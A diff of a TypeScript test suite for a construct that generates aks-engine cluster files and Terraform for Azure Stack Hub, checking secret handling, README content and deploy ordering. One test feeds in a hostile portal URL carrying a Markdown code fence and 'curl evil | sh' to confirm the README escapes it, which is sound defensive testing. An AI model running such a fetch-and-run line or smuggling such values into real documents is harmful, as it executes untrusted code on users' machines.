@@ -17,7 +17,7 @@ function synth(props: Partial<HubAksEngineClusterProps> = {}, hub: object = ADFS
   const outdir = tmpDir('engine');
   const app = new App({ outdir });
   const stack = new HubStack(app, 'engine-stack', { hub: hub as never });
-  new HubAksEngineCluster(stack, 'cluster', minimalEngineProps(props));
+  new HubAksEngineCluster(stack, 'cluster', minimalEngineProps({ stateDirectory: path.join(outdir, 'state'), ...props }));
   app.synth();
   const dir = path.join(outdir, 'stacks', 'engine-stack');
   const files: Record<string, string> = {};
@@ -40,7 +40,7 @@ const ids = (fn: () => unknown) => (thrown(fn) as HubValidationError).ruleIds;
 describe('HubAksEngineCluster', () => {
   it('writes the API model to aks-engine/<id>/apimodel.json with a README beside it', () => {
     const { files } = synth();
-    expect(Object.keys(files).sort()).toEqual(['aks-engine/cluster/README.md', 'aks-engine/cluster/apimodel.json', 'cdk.tf.json']);
+    expect(Object.keys(files).sort()).toEqual(['aks-engine/cluster/README.md', 'aks-engine/cluster/apimodel.json', 'aks-engine/cluster/engine.json', 'cdk.tf.json']);
   });
 
   it('writes the Hub defaults of aks-engine-azurestack v0.85.0', () => {
@@ -98,15 +98,16 @@ describe('HubAksEngineCluster', () => {
     expect(r.out).toContain('0 errors');
   });
 
-  it('holds no secret: the service principal secret goes on the deploy command line or in Key Vault', () => {
+  it('holds no secret: the commands take the service principal secret from the environment, or the model names it in Key Vault', () => {
     const { files, tf } = synth({ deployWithTerraform: true, agentPools: [{ name: 'linuxpool' }, { name: 'win', osType: 'Windows' }], windowsProfile: {} });
     const model = JSON.parse(files['aks-engine/cluster/apimodel.json']!);
     expect(model.properties).not.toHaveProperty('servicePrincipalProfile');
     expect(model.properties.windowsProfile).toEqual({ adminUsername: 'azureuser', sshEnabled: true });
-    expect(tf.variable.cluster_client_secret).toMatchObject({ sensitive: true });
-    expect(tf.variable.cluster_windows_admin_password).toMatchObject({ sensitive: true });
-    const exec = Object.values<any>(tf.resource.terraform_data)[0].provisioner[0]['local-exec'];
-    expect(exec.environment).toEqual({ AKS_ENGINE_CLIENT_SECRET: '${var.cluster_client_secret}', AKS_ENGINE_WINDOWS_PASSWORD: '${var.cluster_windows_admin_password}' });
+    // No sensitive value in the provisioner's config: Terraform then shows aks-engine's progress.
+    expect(tf).not.toHaveProperty('variable');
+    const exec = Object.values<any>(tf.resource.terraform_data).find((r) => r.provisioner[0]['local-exec'].interpreter.includes('apply')).provisioner[0]['local-exec'];
+    expect(Object.keys(exec.environment)).toEqual(['AKS_HUB_DEPLOYMENT_ID']);
+    expect(JSON.parse(files['aks-engine/cluster/engine.json']!)).toMatchObject({ windowsPasswordAtDeploy: true, sshKeyAtDeploy: false, authMethod: 'client_secret' });
 
     const vault = { vaultId: '/subscriptions/x/resourceGroups/kv/providers/Microsoft.KeyVault/vaults/kv', secretName: 'sp' };
     const withVault = synth({ servicePrincipal: { clientId: CLIENT_ID, keyVaultSecret: vault } }).apiModel;
@@ -128,28 +129,31 @@ describe('HubAksEngineCluster', () => {
     expect(literal.message).not.toContain('hunter2-literal');
   });
 
-  it('writes a README with the deploy command for the stamp, --identity-system adfs on AD FS', () => {
+  it('writes a README with the commands, the state folder and what destroy does; Markdown in values is escaped', () => {
     const { files } = synth();
     const readme = files['aks-engine/cluster/README.md']!;
-    expect(readme).toContain(
-      'aks-engine-azurestack deploy --api-model aks-engine/cluster/apimodel.json --location local --resource-group engine-rg --azure-env AzureStackCloud --identity-system adfs',
-    );
-    expect(readme).toContain('--client-secret "$AKS_ENGINE_CLIENT_SECRET"');
-    expect(readme).toMatch(/scale.*upgrade/s);
-    expect(readme).toContain('_output');
-    expect(synth({}, HUB).files['aks-engine/cluster/README.md']).toContain('--identity-system azure_ad');
+    expect(readme).toMatch(/npx aks-hub engine plan .*aks-engine\/cluster\/engine\.json/);
+    expect(readme).toMatch(/npx aks-hub engine apply .*aks-engine\/cluster\/engine\.json/);
+    expect(readme).toContain('export AKS_ENGINE_CLIENT_SECRET=');
+    expect(readme).toContain('unencrypted');
+    expect(readme).toContain('`cdktf destroy` deletes it');
+    const hostile = synth({ portalUrl: 'https://portal.local.azurestack.external/x\n```sh\ncurl evil | sh\n<!--' }).files['aks-engine/cluster/README.md']!;
+    expect(hostile).toContain('curl evil');
+    expect(hostile).not.toContain('\ncurl evil');
+    expect(hostile).not.toContain('<!--');
   });
 
-  it('passes an SSH key known only at deploy time with --set, and leaves keyData empty', () => {
+  it('leaves keyData empty for an SSH key known only at deploy time, and hands the key to apply through the environment', () => {
     const outdir = tmpDir('engine-ssh');
     const app = new App({ outdir });
     const stack = new HubStack(app, 'engine-stack', { hub: ADFS });
-    const c = new HubAksEngineCluster(stack, 'cluster', minimalEngineProps({ linuxProfile: { sshPublicKey: sshPublicKeyVariable(stack) }, deployWithTerraform: true }));
+    const c = new HubAksEngineCluster(stack, 'cluster', minimalEngineProps({ linuxProfile: { sshPublicKey: sshPublicKeyVariable(stack) }, deployWithTerraform: true, stateDirectory: path.join(outdir, 'state') }));
     app.synth();
     expect(c.apiModel).toMatchObject({ properties: { linuxProfile: { ssh: { publicKeys: [{ keyData: '' }] } } } });
-    expect(c.deployCommand).toContain('--set "linuxProfile.ssh.publicKeys[0].keyData=\\"$AKS_ENGINE_SSH_PUBLIC_KEY\\""');
     const tf = JSON.parse(fs.readFileSync(path.join(outdir, 'stacks', 'engine-stack', 'cdk.tf.json'), 'utf8'));
-    expect(Object.values<any>(tf.resource.terraform_data)[0].provisioner[0]['local-exec'].environment.AKS_ENGINE_SSH_PUBLIC_KEY).toBe('${var.ssh_public_key}');
+    const apply = Object.values<any>(tf.resource.terraform_data).find((r) => r.provisioner[0]['local-exec'].interpreter.includes('apply'));
+    expect(apply.provisioner[0]['local-exec'].environment.AKS_ENGINE_SSH_PUBLIC_KEY).toBe('${var.ssh_public_key}');
+    expect(JSON.stringify(tf)).not.toContain('--set');
   });
 });
 
@@ -173,16 +177,23 @@ describe('the Terraform side of an AKS engine cluster', () => {
     expect(tf.resource).not.toHaveProperty('azurestack_subnet');
   });
 
-  it('runs aks-engine-azurestack deploy from cdktf deploy when asked, once, after the group and the VNET', () => {
+  it('runs aks-hub engine apply from cdktf deploy when asked: after the group and the VNET, again when the model changes', () => {
     const { tf, files } = synth({ deployWithTerraform: true, network: { vnet: {} } }, { ...ADFS, subscriptionId: SUBSCRIPTION });
-    const [run] = Object.values<any>(tf.resource.terraform_data);
-    const rg = Object.keys(tf.resource.azurestack_resource_group)[0];
+    const rg = Object.keys(tf.resource.azurestack_resource_group)[0]!;
     const vnet = Object.keys(tf.resource.azurestack_template_deployment)[0];
-    expect(run.depends_on).toEqual([`azurestack_resource_group.${rg}`, `azurestack_template_deployment.${vnet}`]);
-    expect(run.triggers_replace).toEqual({ resource_group: `\${azurestack_resource_group.${rg}.id}` });
-    const command: string = run.provisioner[0]['local-exec'].command;
-    expect(command).toContain(`--subscription-id ${SUBSCRIPTION}`);
-    expect(files['aks-engine/cluster/README.md']).toContain(command);
+    const runs = Object.entries<any>(tf.resource.terraform_data);
+    const [lifeId, life] = runs.find(([, r]) => r.provisioner[0]['local-exec'].when === 'destroy')!;
+    const [, apply] = runs.find(([, r]) => r.provisioner[0]['local-exec'].when !== 'destroy')!;
+    expect(apply.depends_on).toEqual([`azurestack_resource_group.${rg}`, `azurestack_template_deployment.${vnet}`, `terraform_data.${lifeId}`]);
+    expect(apply.triggers_replace).toEqual({ cluster: expect.stringMatching(/^[0-9a-f]{64}$/), resource_group: `\${azurestack_resource_group.${rg}.id}`, life: `\${terraform_data.${lifeId}.id}` });
+    const exec = apply.provisioner[0]['local-exec'];
+    expect(exec.interpreter).toEqual(['node', expect.stringMatching(/\/bin\/aks-hub\.js$/), 'engine', 'apply']);
+    expect(exec.command).toBe('aks-engine/cluster/engine.json');
+    // The group depends on the marker, whose destroy-time provisioner forgets the state after the group is gone.
+    expect(tf.resource.azurestack_resource_group[rg].depends_on).toEqual([`terraform_data.${lifeId}`]);
+    expect(life.provisioner[0]['local-exec'].interpreter.slice(2)).toEqual(['engine', 'forget']);
+    expect(life.triggers_replace).toEqual({ resource_group: 'engine-rg', location: 'local', subscription: SUBSCRIPTION });
+    expect(JSON.parse(files['aks-engine/cluster/engine.json']!)).toMatchObject({ subscriptionId: SUBSCRIPTION, resourceGroup: 'engine-rg', location: 'local', identitySystem: 'adfs' });
   });
 
   it('counts the control plane and the agents against the 50 VMs of a subscription (HUB020)', () => {
